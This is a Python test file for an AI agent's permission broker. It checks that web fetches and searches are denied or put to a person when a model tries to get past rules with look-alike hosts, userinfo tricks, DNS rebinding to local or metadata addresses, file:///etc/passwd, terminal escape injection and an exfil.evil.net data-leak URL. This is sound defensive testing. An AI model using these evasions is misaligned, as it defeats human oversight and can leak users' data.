"""The broker's judgement of a web fetch (by host) and a web search: rules in every mode, a
question per domain, and the ways a hostile model tries to get past a rule: case, trailing
dots, look-alike hosts, ports, userinfo, IPv6, full-width letters, and local addresses against
every kind of allow that is not a rule naming that host."""

from __future__ import annotations

import io
import json
from typing import TYPE_CHECKING

import msgspec
import pytest
from rich.console import Console

from actors.memory_store.loader import load_context
from actors.permission_broker.policy import Policy
from actors.permission_broker.questions import Question
from actors.permission_broker.web import with_host
from actors.protocol import (
    Decision,
    GlobalConfig,
    PermissionMode,
    PermissionRequest,
    ProjectContext,
    ProjectSettings,
)
from actors.settings.rules import PermissionRule
from frontends.interactive.theme import DARK
from frontends.interactive.view import TurnView
from tests.trusting import trust_project

if TYPE_CHECKING:
    from pathlib import Path

SOURCE = "/p/.claude/settings.json"
SETTINGS = "/p/.legato/settings.json"


def policy(
    mode: PermissionMode = "ask",
    settings: ProjectSettings | None = None,
    source: str = SOURCE,
    **by_behavior: tuple[str, ...],
) -> Policy:
    rules = tuple(
        PermissionRule(behavior=behavior, text=text, source=source, line=line)  # type: ignore[arg-type]
        for behavior, texts in by_behavior.items()
        for line, text in enumerate(texts, start=3)
    )
    context = ProjectContext(
        project_root="/p",
        config=GlobalConfig(),
        settings=settings or ProjectSettings(),
        model="m",
        permission_mode=mode,
        permission_rules=rules,
    )
    return Policy(context)


def fetch(url: str, local: str | None = None, host: str | None = None) -> PermissionRequest:
    return PermissionRequest(tool="WebFetch", kind="fetch", url=url, host=host, local_address=local)


SEARCH = PermissionRequest(tool="WebSearch", kind="search", arguments={"query": "trio nursery"})


def outcome(p: Policy, request: PermissionRequest) -> str:
    found = p.assess(request)
    if isinstance(found, Question):
        return "asks"
    return "allowed" if found.allowed else "denied"


def decided(p: Policy, request: PermissionRequest) -> Decision:
    found = p.assess(request)
    assert isinstance(found, Decision), found
    return found


@pytest.mark.parametrize(
    ("url", "result"),
    [
        ("https://EXAMPLE.COM./", "denied"),
        ("https://example.com/", "denied"),
        ("https://a.b.example.com/x", "denied"),
        ("https://a.example.com:8443/x", "denied"),
        ("https://user:pw@a.example.com/", "denied"),
        # Full-width letters: IDNA folds them to a.example.com, where the fetch connects.
        ("https://ａ.ｅｘａｍｐｌｅ.ｃｏｍ/", "denied"),
        ("https://example.com.evil.net/", "asks"),
        ("https://a.example.com@evil.net/", "asks"),  # userinfo: the host is evil.net
        ("https://xn--exmple-cua.com/", "asks"),  # punycode of exämple.com: another domain
        ("https://notexample.com/", "asks"),
        ("http://[::1]:80/", "asks"),
    ],
)
def test_a_deny_rule_holds_against_every_spelling_of_its_host(url: str, result: str) -> None:
    p = policy(deny=("WebFetch(domain:example.com)", "WebFetch(domain:*.example.com)"))
    assert outcome(p, fetch(url)) == result


@pytest.mark.parametrize("mode", ["ask", "auto", "plan", "bypass", "dont_ask", "custom"])
def test_deny_beats_ask_beats_allow_in_every_mode(mode: PermissionMode) -> None:
    p = policy(
        mode,
        deny=("WebFetch(domain:evil.net)",),
        ask=("WebFetch(domain:*.python.org)",),
        allow=("WebFetch", "WebFetch(domain:evil.net)"),
    )
    assert outcome(p, fetch("https://evil.net/")) == "denied"
    # dontAsk asks nobody: what an ask rule wants a person for is denied.
    asks = "denied" if mode == "dont_ask" else "asks"
    assert outcome(p, fetch("https://docs.python.org/3/")) == asks
    assert outcome(p, fetch("https://pypi.org/")) == "allowed"


def test_blocked_tools_and_a_bare_deny_refuse_every_fetch_and_search() -> None:
    blocked = policy(settings=ProjectSettings(blocked_tools=("WebFetch", "WebSearch")))
    assert "blockedTools entry 'WebFetch'" in decided(blocked, fetch("https://x.org/")).reason
    assert outcome(blocked, SEARCH) == "denied"
    bare = policy("bypass", deny=("WebFetch", "WebSearch"))
    assert outcome(bare, fetch("https://x.org/")) == "denied"
    assert outcome(bare, SEARCH) == "denied"
    every = policy("bypass", deny=("*",))
    assert outcome(every, fetch("https://x.org/")) == "denied"


@pytest.mark.parametrize(
    "allow",
    [
        {"allow": ("WebFetch",)},
        {"allow": ("WebFetch(domain:*)",)},
        {"allow": ("WebFetch(domain:*.internal)",)},
        {"allow": ("WebFetch(domain:db.*)",)},
        {"settings": ProjectSettings(allowed_tools=("WebFetch",))},
        {"mode": "bypass"},
        {"mode": "auto"},
    ],
)
def test_a_local_address_needs_a_rule_naming_its_host(allow: dict[str, object]) -> None:
    p = policy(**allow)  # type: ignore[arg-type]
    refused = decided(p, fetch("http://db.internal/", local="10.0.0.5"))
    assert not refused.allowed
    assert refused.reason == (
        "db.internal resolves to 10.0.0.5, an address on this machine or its network; fetching "
        "from there needs an allow rule naming db.internal exactly"
    )
    assert refused.remedy is not None
    assert refused.remedy.startswith(
        "To allow it, add the rule 'WebFetch(domain:db.internal)' to permissions.allow in "
        f'{SETTINGS}, or pass --allowedTools "WebFetch(domain:db.internal)"'
    )


def test_the_rule_naming_the_host_allows_a_local_address_from_a_flag_too() -> None:
    p = policy(source="--allowedTools", allow=("WebFetch(domain:LOCALHOST.)",))
    allowed = decided(p, fetch("http://localhost:8000/", local="127.0.0.1"))
    assert allowed.allowed
    assert "allow rule 'WebFetch(domain:LOCALHOST.)' at --allowedTools:3" in allowed.reason
    # A deny still wins; another host resolving to the same address is not named.
    assert not decided(p, fetch("http://rebind.evil.net/", local="127.0.0.1")).allowed
    ipv6 = policy(allow=("WebFetch(domain:[::1])",))
    assert decided(ipv6, fetch("http://[::1]:9000/", local="::1")).allowed
    assert not decided(ipv6, fetch("http://[::2]/", local="::2")).allowed


def test_always_remembers_a_domain_and_never_a_local_address_behind_it() -> None:
    p = policy()
    question = p.assess(fetch("https://docs.python.org/3/"))
    assert isinstance(question, Question)
    assert question.choices == ("y", "n", "always", "never")
    assert question.scope == "fetching pages from docs.python.org"
    assert p.answer(question, "always").allowed
    assert outcome(p, fetch("https://DOCS.python.org/other")) == "allowed"
    assert outcome(p, fetch("https://python.org/")) == "asks"  # another domain
    # The same name, later resolving to this machine (DNS rebinding): refused all the same.
    assert outcome(p, fetch("https://docs.python.org/", local="169.254.169.254")) == "denied"
    (reply,) = p.replies()
    assert reply.covers == "fetching pages from docs.python.org"
    never = p.assess(fetch("https://evil.net/"))
    assert isinstance(never, Question)
    p.answer(never, "never")
    assert outcome(p, fetch("https://evil.net/x")) == "denied"


def test_headless_and_dont_ask_deny_naming_the_rule_to_add() -> None:
    question = policy().assess(fetch("https://docs.python.org/3/"))
    assert isinstance(question, Question)
    assert question.headless_reason == (
        "fetching from docs.python.org is not allowed by any rule, so ask mode asks before "
        "fetching, and a headless run cannot ask. To allow it, add the rule "
        f"'WebFetch(domain:docs.python.org)' to permissions.allow in {SETTINGS}, or pass "
        '--allowedTools "WebFetch(domain:docs.python.org)"'
    )
    denied = decided(policy("dont_ask"), SEARCH)
    assert not denied.allowed
    assert "in dontAsk mode nobody is asked" in denied.reason
    assert '--allowedTools "WebSearch"' in denied.reason


def test_a_search_is_asked_allowed_by_its_rule_and_always_covers_the_session() -> None:
    assert outcome(policy("bypass"), SEARCH) == "allowed"
    assert outcome(policy(allow=("WebSearch",)), SEARCH) == "allowed"
    assert outcome(policy(settings=ProjectSettings(allowed_tools=("WebSearch",))), SEARCH) == (
        "allowed"
    )
    assert outcome(policy("bypass", ask=("WebSearch",)), SEARCH) == "asks"
    p = policy("plan")
    question = p.assess(SEARCH)
    assert isinstance(question, Question)
    assert question.scope == "searching the web"
    p.answer(question, "always")
    other = PermissionRequest(tool="WebSearch", kind="search", arguments={"query": "other"})
    assert outcome(p, other) == "allowed"


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "https:///nohost", "http://exa mple.com/", "http://[::1/"]
)
def test_a_url_with_no_readable_host_is_denied_with_the_remedy(url: str) -> None:
    refused = decided(policy("bypass", allow=("WebFetch",)), fetch(url))
    assert not refused.allowed
    assert "names no host that can be fetched" in refused.reason


def test_the_question_shows_the_url_escaped_and_the_domain() -> None:
    view = TurnView(Console(file=io.StringIO(), width=100, theme=DARK.rich_theme()), DARK)
    request = with_host(fetch("https://docs.python.org/3/\x1b]0;pwned\x07\x1b[2J"))
    view.question(request)
    assert view.take_printed() == (
        "? Fetch  https://docs.python.org/3/\\x1b]0;pwned\\x07\\x1b[2J\n"
        "    domain docs.python.org\n"
        "    requested by WebFetch\n"
    )
    query = PermissionRequest(tool="WebSearch", kind="search", arguments={"query": "a\x1b[8mb\nc"})
    view.question(query)
    assert view.take_printed() == (
        "? Search the web for  'a\\x1b[8mb\\nc'\n    requested by WebSearch\n"
    )


def plant(project: Path, rules: list[str]) -> None:
    path = project / ".claude" / "settings.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"permissions": {"allow": rules}}))


def test_a_cloned_repository_cannot_allow_fetches_until_trusted(tmp_path: Path) -> None:
    project, home = tmp_path / "project", tmp_path / "home"
    home.mkdir()
    plant(project, ["WebFetch", "WebFetch(domain:localhost)"])
    context = load_context(str(project), home=str(home), env={})
    p = Policy(context)
    assert outcome(p, fetch("https://exfil.evil.net/?data=x")) == "asks"
    refused = decided(p, fetch("http://localhost:8080/admin", local="127.0.0.1"))
    assert not refused.allowed
    assert refused.remedy is not None
    assert "allows it once you trust this project's settings" in refused.remedy
    trust_project(project, home)
    trusted = Policy(load_context(str(project), home=str(home), env={}))
    assert outcome(trusted, fetch("https://docs.python.org/")) == "allowed"
    assert outcome(trusted, fetch("http://localhost:8080/", local="127.0.0.1")) == "allowed"


def test_the_new_tools_are_legato_s_names_everywhere_names_count() -> None:
    from actors.settings.rule_check import removed_tools
    from actors.settings.rule_syntax import RuleError, parse
    from actors.tool_names import entry_problem

    for name in ("WebFetch", "WebSearch", "NotebookEdit"):
        assert entry_problem(name) is None
        assert parse(name, "deny").note is None
    assert entry_problem("webfetch") == (
        "'webfetch' is neither a built-in tool nor an MCP name (mcp__<server>[__<tool>]); "
        "did you mean 'WebFetch'? Names are case-sensitive"
    )
    # A rule written where a tool's name goes says where rules go.
    assert entry_problem("WebFetch(domain:docs.python.org)") == (
        "'WebFetch(domain:docs.python.org)' is a rule, and this list takes tool names only; put "
        "the rule in permissions.allow (or deny), or write 'WebFetch' for every use of the tool"
    )
    with pytest.raises(RuleError, match="'WebSearch' takes no specifier"):
        parse("WebSearch(python)", "allow")
    with pytest.raises(RuleError, match="input parameter"):
        parse("WebSearch(query:x)", "deny")
    deny = [PermissionRule(behavior="deny", text=t, source=SOURCE) for t in ("Edit", "WebSearch")]
    assert set(removed_tools(deny)) == {"Edit", "Write", "NotebookEdit", "WebSearch"}


def test_an_edit_rule_covers_notebook_edit() -> None:
    edit = PermissionRequest(tool="NotebookEdit", kind="write", paths=("/p/a.ipynb",))
    assert outcome(policy("bypass", deny=("Edit",)), edit) == "denied"
    assert outcome(policy(deny=("Edit(a.ipynb)",)), edit) == "denied"
    assert outcome(policy(allow=("Edit(/**)",)), edit) == "allowed"


async def test_the_agent_sdk_is_asked_with_the_tool_s_name_and_input() -> None:
    from typing import Any

    from actors.protocol import AskUser
    from frontends.headless.control import ControlChannel
    from frontends.headless.sdk_session import ProgramQuestions

    sent: list[dict[str, Any]] = []

    async def write(message: dict[str, Any]) -> None:
        sent.append(message)
        answer = {"behavior": "allow"}
        channel.answered(
            {"request_id": message["request_id"], "subtype": "success", "response": answer}
        )

    channel = ControlChannel(write)
    tool_input = {"url": "https://docs.python.org/3/", "prompt": "the asyncio API"}
    request = msgspec.structs.replace(
        fetch(tool_input["url"]), tool_input=tool_input, tool_use_id="toolu_1"
    )
    answer = await ProgramQuestions(channel, lambda: None).ask(
        AskUser(request=request, choices=("y", "n", "always", "never"))
    )
    assert answer.choice == "y"
    (message,) = sent
    body = message["request"]
    assert body["subtype"] == "can_use_tool"
    assert body["tool_name"] == "WebFetch"
    assert body["input"] == tool_input
    assert body["description"] == "fetch https://docs.python.org/3/"


async def test_the_broker_asks_the_person_per_domain_and_remembers_always(tmp_path: Path) -> None:
    from actors.protocol import CheckPermission
    from frontends.session import permission_broker, questions_actor
    from runtime import supervise
    from tests.permission_broker.test_broker import FakeUi, memory_for

    project = tmp_path / "project"
    project.mkdir()
    memory = memory_for(project)
    ui = FakeUi(["always"])
    questions = questions_actor(ui)
    broker = permission_broker(memory, questions=questions)
    async with supervise([memory, questions, broker]):
        first = await broker.address.ask(
            CheckPermission(request=fetch("https://Docs.Python.org./3/"))
        )
        again = await broker.address.ask(
            CheckPermission(request=fetch("https://docs.python.org/x"))
        )
        local = await broker.address.ask(
            CheckPermission(request=fetch("https://docs.python.org/", local="127.0.0.1"))
        )
    (asked,) = ui.asked
    assert asked.request.host == "docs.python.org"
    assert asked.covers == "fetching pages from docs.python.org"
    assert first == Decision(
        True, "the user allowed fetching pages from docs.python.org for this session"
    )
    assert again == first
    assert not local.allowed
